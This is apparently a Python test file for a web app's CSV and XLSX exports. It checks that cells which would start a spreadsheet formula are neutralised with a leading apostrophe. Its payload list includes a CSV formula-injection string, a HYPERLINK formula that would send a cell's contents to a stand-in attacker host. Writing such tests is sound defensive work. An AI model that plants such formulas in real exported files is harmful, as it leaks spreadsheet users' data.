"""Formula injection: every CSV CityDesk writes escapes a text cell a spreadsheet would run
(OWASP: =, +, -, @, tab, CR get a leading '), numbers stay numbers, XLSX text stays text."""

import csv
import io
import re
import zipfile
from types import SimpleNamespace

import pytest

from models.core import clock
from models.reports import yearly_report
from tests.security.conftest import build_world
from webapp.csv_safe import csv_writer, neutralise
from webapp.reports.export import to_csv, to_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1", "-2", "@x", "\tx", "\rx"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_that_starts_a_formula_is_prefixed(payload):
    assert neutralise(payload) == "'" + payload
    out = io.StringIO()
    csv_writer(out).writerow([payload, "ok", "a-b", "", -1, 2.5])
    assert read_csv(out.getvalue()) == [["'" + payload, "ok", "a-b", "", "-1", "2.5"]]


def test_the_report_csv_escapes_text_and_keeps_numbers():
    year = clock.today().year
    report = yearly_report(year)
    report["narrative"] = list(PAYLOADS)
    report["dispatch"]["counted"] = -1  # numeric columns are never negative; if one were...
    rows = read_csv(to_csv(report))
    narrative = [row[4] for row in rows if row[:2] == [str(year), "narrative"]]
    assert narrative == ["'" + p for p in PAYLOADS]
    counted = [row[4] for row in rows if row[:2] == [str(year), "dispatch"] and row[3] == "counted"]
    assert counted == ["-1"]  # ... it stays a number


def test_the_import_problems_file_escapes_text(login_as, monkeypatch):
    client, _user = login_as("admin")
    page = client.post(
        "/admin/import",
        data={"kind": "dispatches", "file": (io.BytesIO(b"reference\nD-1\n"), "x.csv")},
        content_type="multipart/form-data",
    )
    token = re.search(r"/admin/import/([0-9a-f]{32})/problems\.csv", page.get_data(as_text=True))
    assert token, "the check page links no problems file"
    problems = [SimpleNamespace(line=2, column=p, message=p) for p in PAYLOADS]
    monkeypatch.setattr(
        "webapp.reports.imports.check", lambda *_a, **_k: SimpleNamespace(problems=problems)
    )
    body = client.get(f"/admin/import/{token.group(1)}/problems.csv").get_data(as_text=True)
    assert read_csv(body)[1:] == [["2", "'" + p, "'" + p] for p in PAYLOADS]


def test_xlsx_text_cells_stay_strings(create_user):
    build_world(create_user, subject="=1+2")
    book = zipfile.ZipFile(io.BytesIO(to_xlsx(yearly_report(clock.today().year))))
    sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    cells = [c for s in sheets for c in re.findall(r"<c [^>]*>(?:(?!</c>).)*</c>", s)]
    subject = [c for c in cells if "=1+2" in c]
    assert subject, "the subject is not in the workbook"
    assert all(re.search(r'\bt="(inlineStr|s|str)"', c) and "<f>" not in c for c in subject)
    assert not any("<f>" in c for c in cells)  # no formula anywhere
